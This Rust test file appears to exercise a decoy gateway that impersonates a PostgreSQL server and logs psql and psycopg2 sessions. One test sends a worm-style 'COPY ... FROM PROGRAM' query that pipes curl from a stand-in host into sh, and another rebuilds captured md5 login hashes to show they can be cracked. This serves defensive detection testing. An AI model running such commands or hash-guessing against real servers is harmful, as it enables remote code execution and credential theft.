//! PostgreSQL, as psql and Python's client use it.

use serde_json::{Value, json};
use testkit::Gateway;
use testkit::programs::{run, shell};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

/// The interpreter that packages are installed for.
const PYTHON: &str = "/usr/bin/python3";

/// Nobody has this address.
const SERVER: &str = "203.0.113.54";

fn start(programs: &[&str], arguments: &[&str]) -> Option<Gateway> {
    Gateway::start(SINKGATE, programs, arguments)
}

/// What psql prints, each row a line.
fn psql(gateway: &Gateway, options: &str, statements: &str) -> String {
    let line = format!(
        "PGPASSWORD=s3cret psql 'host={SERVER} user=app dbname=shop {options}' -At -c \"{statements}\""
    );
    shell(&gateway.network.victim, &line).stdout
}

#[test]
#[ignore = "end to end: needs root"]
fn psql_works_with_and_without_tls() {
    let Some(gateway) = start(&["psql"], &[]) else { return };
    for options in ["sslmode=disable", "sslmode=require", "sslmode=disable port=15432"] {
        let values = psql(&gateway, options, "SELECT 1+1, current_user, 'x'::text, NULL");
        assert_eq!(values, "2|app|x|\n", "{options}");
    }
    let worm = "DROP TABLE IF EXISTS x; CREATE TABLE x(cmd_output text); \
                COPY x FROM PROGRAM 'curl 198.51.100.9 | sh'; SELECT count(*) FROM x";
    let said = psql(&gateway, "sslmode=prefer", worm);
    assert_eq!(said, "DROP TABLE\nCREATE TABLE\nCOPY 0\n0\n");
    let given = gateway.database.details("credentials.given", 4);
    assert!(given.iter().all(|given| given["secret"] == "s3cret"), "{given:?}");
    gateway.database.expect(
        "SELECT count(*) AS count FROM event WHERE kind = 'service.command'
         AND details ->> 'command' LIKE '%FROM PROGRAM ''curl%'",
        &json!([{"count": 1}]),
    );
}

#[test]
#[ignore = "end to end: needs root"]
fn hashes_can_be_guessed_from() {
    let Some(gateway) = start(&["psql"], &["--set", "postgres.login=md5"]) else { return };
    assert_eq!(psql(&gateway, "sslmode=disable", "SELECT 1"), "1\n");
    let given = gateway.database.details("credentials.given", 1);
    let script = format!(
        "import hashlib\n\
         md5 = lambda data: hashlib.md5(data).hexdigest()\n\
         user, salt, answer = {}[len('$postgres$'):].split('*')\n\
         inner = md5(b's3cret' + user.encode())\n\
         assert md5(inner.encode() + bytes.fromhex(salt)) == answer",
        given[0]["secret"]
    );
    let checked = run(&gateway.network.victim, PYTHON, &["-c", &script]);
    assert!(checked.status.success(), "{checked:?}");
}

#[test]
#[ignore = "end to end: needs root"]
fn proofs_and_logins_that_are_wrong_are_refused() {
    for setting in ["postgres.login=scram", "postgres.accept=never"] {
        let Some(gateway) = start(&["psql"], &["--set", setting]) else { return };
        let line =
            format!("PGPASSWORD=s3cret psql 'host={SERVER} user=app sslmode=disable' -c x; true");
        let said = shell(&gateway.network.victim, &line).stderr;
        assert!(said.contains("password authentication failed for user \"app\""), "{said}");
        assert_eq!(gateway.database.details("credentials.given", 1)[0]["user"], "app");
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn pythons_client_reads_rows_and_errors() {
    let programs = [PYTHON, "/usr/lib/python3/dist-packages/psycopg2/__init__.py"];
    let Some(gateway) = start(&programs, &[]) else { return };
    let script = format!(
        "import json, io, psycopg2\n\
         link = psycopg2.connect(host='{SERVER}', user='app', password='s3cret', dbname='d')\n\
         cursor = link.cursor()\n\
         cursor.execute('SELECT 41 + 1, %s, NULL, version()', ('a',))\n\
         found = [list(cursor.fetchone())]\n\
         try:\n\
         \x20   cursor.execute('SELECT * FROM nobody')\n\
         except psycopg2.Error as error:\n\
         \x20   found.append(error.pgcode)\n\
         link.rollback()\n\
         cursor.execute('CREATE TABLE t (a int, b text)')\n\
         cursor.copy_from(io.StringIO('1\\ta\\n2\\tb\\n'), 't')\n\
         found.append(cursor.rowcount)\n\
         cursor.execute('INSERT INTO t VALUES (%s, %s)', (3, 'c'))\n\
         found.append(cursor.rowcount)\n\
         link.commit()\n\
         print(json.dumps(found))"
    );
    let done = run(&gateway.network.victim, PYTHON, &["-c", &script]);
    assert!(done.status.success(), "{done:?}");
    let found: Value = serde_json::from_str(&done.stdout).unwrap();
    assert_eq!((&found[0][0], &found[0][1], &found[0][2]), (&json!(42), &json!("a"), &Value::Null));
    assert_eq!(found[0][3].as_str().unwrap_or_default().split(' ').next(), Some("PostgreSQL"));
    assert_eq!((&found[1], &found[2], &found[3]), (&json!("42P01"), &json!(2), &json!(1)));
}
